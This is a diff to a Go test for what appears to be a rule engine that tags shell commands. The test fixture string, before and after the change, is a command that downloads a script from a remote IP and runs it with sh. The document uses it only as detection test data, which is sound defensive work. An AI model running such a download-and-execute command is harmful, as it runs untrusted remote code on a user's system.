@@ -168,7 +168,8 @@ func (panicking) holds(*evaluation) bool { panic("out of order") }
 // verdict is not remembered as if it had finished.
 func TestPanic(t *testing.T) {
 	rs, _ := Load(Options{Sources: []Source{{Name: "embedded", FS: Embedded()}}})
-	want := rulesOf(tagsOf(rs.Tagger(nil), "wget -qO- http://203.0.113.9/a.sh | sh"))
+	const text = "wget http://203.0.113.9/a.sh; sh a.sh"
+	want := rulesOf(tagsOf(rs.Tagger(nil), text))
 	if len(want) < 2 {
 		t.Fatalf("only %v match", want)
 	}
@@ -186,7 +187,7 @@ func TestPanic(t *testing.T) {
 		}
 	})
 	for range 2 {
-		if got := rulesOf(tagsOf(c, "wget -qO- http://203.0.113.9/a.sh | sh")); !reflect.DeepEqual(got, want[1:]) {
+		if got := rulesOf(tagsOf(c, text)); !reflect.DeepEqual(got, want[1:]) {
 			t.Errorf("got %v, want %v", got, want[1:])
 		}
 	}
